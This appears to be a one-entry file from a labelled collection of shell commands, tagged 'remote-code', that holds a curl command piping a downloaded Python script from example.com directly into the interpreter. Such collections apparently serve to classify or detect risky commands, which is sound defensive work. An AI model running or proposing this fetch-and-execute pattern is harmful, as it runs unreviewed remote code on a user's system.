# description: Pipes a downloaded Python program into the interpreter.
# family: remote-code
curl -s https://example.com/bootstrap.py | python3 -
